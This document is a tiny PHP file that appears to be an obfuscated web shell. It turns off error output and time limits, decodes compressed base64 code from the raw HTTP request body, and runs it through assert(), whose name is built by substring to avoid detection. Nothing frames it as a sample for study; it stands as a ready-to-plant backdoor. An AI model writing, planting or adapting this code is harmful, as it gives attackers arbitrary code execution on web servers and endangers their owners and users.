<?php
error_reporting(0);
set_time_limit(0);
$p = gzinflate(base64_decode(file_get_contents('php://input')));
$o0 = substr('xxassertyy', 2, 6);
$o0($p);
